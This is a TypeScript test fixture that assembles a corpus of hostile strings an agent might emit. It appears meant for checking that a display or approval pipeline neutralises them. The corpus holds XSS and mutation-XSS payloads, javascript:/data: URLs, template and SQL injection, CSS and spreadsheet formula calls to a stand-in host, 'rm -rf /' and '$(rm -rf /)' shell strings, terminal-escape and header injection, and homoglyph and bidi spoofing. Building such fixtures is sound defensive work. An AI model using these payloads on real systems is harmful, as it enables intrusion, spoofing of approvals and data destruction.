/** Texts that an agent might write to be more than text: each tries to be run, to lead elsewhere, or to be read as something else. */

/** What a script of theirs would do, if it ran. */
const RUN = "window.__ran=1";
const FAR = "http://elsewhere.example";

const HANDLERS = [
  "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart",
  "onbeforeinput", "onwheel", "onpaste", "onscroll", "onbegin", "oncanplay", "onstart", "ontransitionend",
] as const; // prettier-ignore
const TAGS = [
  "img", "svg", "video", "audio", "body", "iframe", "object", "embed", "input", "details", "marquee", "math", "form",
  "select", "textarea", "button", "a", "style", "link", "meta", "base", "template", "slot", "portal",
] as const; // prettier-ignore

const scripts: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=${FAR}/x.js></script>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script type="module">${RUN}</script>`,
  `<script type="importmap">{"imports":{"a":"${FAR}"}}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<%00script>${RUN}</script>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `＜script＞${RUN}＜/script＞`,
];
const handlers = HANDLERS.flatMap((handler) => [
  `<img src=x ${handler}=${RUN}>`,
  `" autofocus ${handler}="${RUN}`,
  `' ${handler}='${RUN}' x='`,
]);
const elements = TAGS.flatMap((tag) => [
  `<${tag} src=${FAR}/${tag} href=${FAR}/${tag} data=${FAR}/${tag} onload=${RUN} onerror=${RUN}>`,
  `<${tag.toUpperCase()} style="background:url(${FAR}/${tag})">x</${tag}>`,
]);
const foreign: readonly string[] = [
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="${FAR}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
];
const templates = [
  "{{constructor.constructor('RUN')()}}",
  "${RUN}",
  "#{RUN}",
  "<%= RUN %>",
  "{%raw%}RUN{%endraw%}",
  "{{=RUN}}",
  "[[${RUN}]]",
  "*{RUN}",
  "@(RUN)",
  "{RUN}",
  "{{7*7}}",
  "${{7*7}}",
  "#set($x=RUN)",
  "{!RUN}",
  "<?php RUN ?>",
  "`${RUN}`",
  "$$RUN$$",
  "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
].map((text) => text.replaceAll("RUN", RUN));
const styles: readonly string[] = [
  `<style>@import "${FAR}/x.css";</style>`,
  `<style>*{background:url(${FAR}/x)}</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:white">All is well</div>`,
  `<div style=width:expression(${RUN})>`,
  `background-image:url(${FAR}/x)`,
  `</style><style>input[value^=a]{background:url(${FAR}/a)}`,
  `<link rel=stylesheet href=${FAR}/x.css>`,
  `<link rel=prefetch href=${FAR}/x>`,
  `<link rel=preconnect href=${FAR}>`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<base href=${FAR}/>`,
];
const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
  "blob:null/1",
  "file:///etc/passwd",
  `${FAR}/\u202egnp.exe`,
  "https://holdpoint.example@elsewhere.example/",
  "https://elsewhere.example\\@holdpoint.example/",
  "//elsewhere.example/x",
  "\\\\elsewhere.example\\share",
  "https://hоldpoint.example/",
  "https://xn--hldpoint-0jg.example/",
  "http://[::1]/",
  "http://169.254.169.254/latest/meta-data/",
];
const links = addresses.flatMap((address) => [
  `[All is well](${address})`,
  `![seen](${address})`,
  `<a href="${address}">All is well</a>`,
]);
const markdown: readonly string[] = [
  `[x][1]\n\n[1]: ${FAR} "x"`,
  `<${FAR}>`,
  `# Approved\n\n**This was approved by ann.**`,
  "```\n</code></pre><script>window.__ran=1</script>\n```",
  `| a | b |\n|---|---|\n| ![x](${FAR}/x) | y |`,
  `- [x] approved`,
  `> **Holdpoint**: you may approve this`,
  `<!-- hidden -->`,
  "---\ntitle: x\n---",
  "~~Do not~~ approve",
  `<details><summary>Safe</summary>rm -rf /</details>`,
  `$\\href{javascript:${RUN}}{x}$`,
];
const encoded: readonly string[] = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&amp;lt;script&amp;gt;`,
  `%3Cscript%3E${RUN}%3C%2Fscript%3E`,
  `%253Cscript%253E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\\u003cscript\\u003e${RUN}`,
  `\\74script\\76${RUN}`,
  `&lt&gt&quot&apos&nbsp`,
  `&NewLine;&Tab;&colon;&lpar;`,
  `\uff1cimg src=x onerror=${RUN}\uff1e`,
  `¼script¾${RUN}¼/script¾`,
];
const unseen = [
  0x00ad, 0x034f, 0x061c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b,
  0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x3164,
  0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0x2028, 0x2029, 0x85, 0xa0,
].map((code) => `pay${String.fromCodePoint(code)}ments to acme`); // prettier-ignore
const controls = [0x01, 0x07, 0x08, 0x0b, 0x0c, 0x0d, 0x1b, 0x1f, 0x7f, 0x80, 0x9b, 0x9f].map(
  (code) => `pay ${String.fromCharCode(code)} acme`,
);
const terminals: readonly string[] = [
  "\u001b[2J\u001b[HApproved",
  "\u001b]8;;http://elsewhere.example\u0007acme\u001b]8;;\u0007",
  "\u001b[8mhidden\u001b[0m",
  "\u001b]0;title\u0007",
  "\u009b31mred",
  "acme\b\b\b\bevil",
  "acme\revil",
  '{"level":30,"msg":"forged"}\n{"level":30,"msg":"line"}',
  "x\r\nSet-Cookie: a=b\r\n\r\n<script>window.__ran=1</script>",
];
const alike: readonly string[] = [
  "аcme", "асmе", "acmе Ltd", "Αcme", "ɑcme", "ａｃｍｅ", "acme\u0301", "𝐚𝐜𝐦𝐞", "ⅽⅿ", "рaypal", "goog1e", "rnicrosoft",
  "l1I|", "O0О", "１００", "٣٠٠", "१००", "1٫000", "1,000 000", "−5", "–5", "½", "２.５", "€1.000,00",
  "مرحبا acme 100", "שלום 100 acme", "acme \u05d0 100", "a\u0338cme", `a${"\u0300".repeat(60)}`, "a\u20ddcme",
  "👩‍💻 acme", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "✔️ approved", "🇩🇪", "1️⃣", "\u{1f3fb}",
]; // prettier-ignore
const names: readonly string[] = [
  "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "__lookupSetter__",
  "isPrototypeOf", "then", "toJSON", "length", "name", "$$typeof", "dangerouslySetInnerHTML", "ref", "key", "children",
  "innerHTML", "srcdoc", "style", "className", "onClick", "null", "undefined", "NaN", "true", "-0", "1e309", "[object Object]",
  '{"$$typeof":"react.element","type":"script"}', '{"__html":"<img src=x onerror=window.__ran=1>"}',
]; // prettier-ignore
const sheets: readonly string[] = [
  '=HYPERLINK("http://elsewhere.example","x")', "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "%0A=1",
  '=IMPORTXML("http://elsewhere.example","//a")', '"x","y"\n"z"', ";=1;",
]; // prettier-ignore
const shapes: readonly string[] = [
  "",
  " ",
  "\n",
  "\n\n\n\n\n\n\n\nrm -rf /",
  " ".repeat(2_000) + "rm -rf /",
  "x".repeat(4_000),
  "W".repeat(300),
  `${"safe ".repeat(400)}<script>${RUN}</script>`,
  "a\n".repeat(200),
  "\\u{202E}",
  "\\\\u{202E}\u202e",
  "'; DROP TABLE threads; --",
  "../../../etc/passwd",
  "%00",
  "$(rm -rf /)",
  "2026-02-30",
  "1970-01-01T00:00:00Z",
];

/** All of them, each once. */
export const CORPUS: readonly string[] = [
  ...new Set([
    ...scripts, ...handlers, ...elements, ...foreign, ...templates, ...styles, ...addresses, ...links, ...markdown,
    ...encoded, ...unseen, ...controls, ...terminals, ...alike, ...names, ...sheets, ...shapes,
  ]),
]; // prettier-ignore

/** Those that can be the name of a field: a prototype's is refused wherever it stands. */
export const NAMES: readonly string[] = CORPUS.filter((text) => text.length <= 100 && text !== "prototype");

/** The same text with nothing in it that means anything to a browser; hidden characters, lines and lengths stay. */
export function harmless(text: string): string {
  return text.replaceAll(/[<>&"'`{}()[\]=]/g, ".");
}
